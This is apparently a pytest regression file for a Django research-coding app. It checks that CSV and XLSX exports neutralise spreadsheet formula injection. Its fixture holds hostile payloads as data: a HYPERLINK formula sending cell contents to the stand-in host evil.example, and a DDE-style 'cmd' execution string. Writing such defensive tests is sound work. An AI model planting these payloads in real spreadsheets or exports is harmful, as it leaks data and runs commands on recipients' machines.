"""Finding 3 of the security review (issue 14): exports must not carry live spreadsheet formulas.

Code names, dyad labels, attribute values, quotes and memos that begin with =, +, -, @, a tab or
a carriage return reach every CSV and XLSX neutralised (a leading apostrophe, OWASP's advice),
XLSX text is always a value, and ``raw=true`` gives scripts the text as it is.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from coding.exchange.tabular import FORMULA_TRIGGERS, spreadsheet_safe
from coding.models import Code
from coding.services import CodingInput, codings_bulk_create, memo_create
from coding.team.reports import AgreementRequest, agreement_report_start
from healing.jobs.models import Job
from interviews.models import Dyad
from tests.factories import code
from tests.rich_study import Rich, build_rich_study

PAYLOADS = {
    "code": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dyad": "+D01",
    "memo": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quote": "-2+3 is what she said",
    "tab": "\t=1+1",
}


@pytest.fixture
def hostile(study: Any, lead: Any, coder: Any, coder2: Any) -> Rich:
    rich = build_rich_study(study=study, lead=lead, coder=coder, coder2=coder2)
    Code.objects.filter(codebook__study=study, key="OUT.TRUST").update(name=PAYLOADS["code"])
    Dyad.objects.filter(study=study, label="D01").update(label=PAYLOADS["dyad"])
    rich.patient.refresh_from_db()
    text = rich.patient.text
    start = text.index(" ") + 1
    codings_bulk_create(
        interview=rich.patient,
        coder=coder,
        items=[CodingInput(code(study, "OUT.TRUST").pk, start, start + 5, memo=PAYLOADS["memo"])],
    )
    memo_create(study=study, author=lead, body=PAYLOADS["tab"], interview=rich.patient)
    return rich


def live(value: Any) -> bool:
    """Text a spreadsheet would evaluate (numbers, even negative ones, are numbers)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                found.append(cell.value)
    return found


def body(response: Any) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


def test_spreadsheet_safe_neutralises_each_trigger() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert spreadsheet_safe(f"{trigger}x") == f"'{trigger}x"
    assert spreadsheet_safe("plain") == "plain"
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(None) is None


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "matrix-csv", "matrix-xlsx"])
def test_study_exports_carry_no_live_formula(hostile: Rich, viewer: Any, fmt: str) -> None:
    client = APIClient()
    client.force_authenticate(viewer)
    url = f"/api/v1/studies/study/exports/{fmt}/?layer=all"
    data = body(client.get(url))
    cells = csv_cells(data) if fmt.endswith("csv") else xlsx_cells(data)
    assert not [c for c in cells if live(c)]
    # The payloads are there, neutralised.
    assert "'" + PAYLOADS["dyad"] in cells
    raw_data = body(client.get(url + "&raw=true"))
    raw_cells = csv_cells(raw_data) if fmt.endswith("csv") else xlsx_cells(raw_data)
    assert PAYLOADS["dyad"] in raw_cells
    assert client.get(url + "&raw=maybe").status_code == 400


def test_segments_csv_neutralises_quotes_memos_and_code_names(hostile: Rich, viewer: Any) -> None:
    client = APIClient()
    client.force_authenticate(viewer)
    cells = csv_cells(body(client.get("/api/v1/studies/study/exports/csv/?layer=all")))
    assert "'" + PAYLOADS["code"] in cells
    assert "'" + PAYLOADS["memo"] in cells
    assert not [c for c in cells if live(c)]


def test_codebook_and_comparison_tables_carry_no_live_formula(hostile: Rich, lead: Any) -> None:
    client = APIClient()
    client.force_authenticate(lead)
    for fmt in ("csv", "xlsx"):
        data = body(client.get(f"/api/v1/studies/study/codebook/exports/{fmt}/"))
        cells = csv_cells(data) if fmt == "csv" else xlsx_cells(data)
        assert "'" + PAYLOADS["code"] in cells
        assert not [c for c in cells if live(c)]
    page = Client()
    page.force_login(lead)
    for view in ("matrix", "prevalence", "process-outcome", "framework"):
        for fmt in ("csv", "xlsx"):
            data = body(page.get(f"/studies/study/comparison/?view={view}&format={fmt}"))
            cells = csv_cells(data) if fmt == "csv" else xlsx_cells(data)
            assert not [c for c in cells if live(c)], (view, fmt)


def test_agreement_report_exports_carry_no_live_formula(
    hostile: Rich, lead: Any, coder: Any, coder2: Any, django_capture_on_commit_callbacks: Any
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        job = agreement_report_start(
            study=hostile.study,
            user=lead,
            request=AgreementRequest(scope="study", unit="character", coders=[coder.pk, coder2.pk]),
        )
    job = Job.objects.get(pk=job.pk)
    assert job.state == "succeeded", job.error
    page = Client()
    page.force_login(lead)
    for fmt in ("csv", "xlsx"):
        response = page.get(f"/studies/study/agreement/{job.pk}/export.{fmt}")
        data = body(response)
        cells = csv_cells(data) if fmt == "csv" else xlsx_cells(data)
        assert "'" + PAYLOADS["code"] in cells, fmt
        assert not [c for c in cells if live(c)], fmt
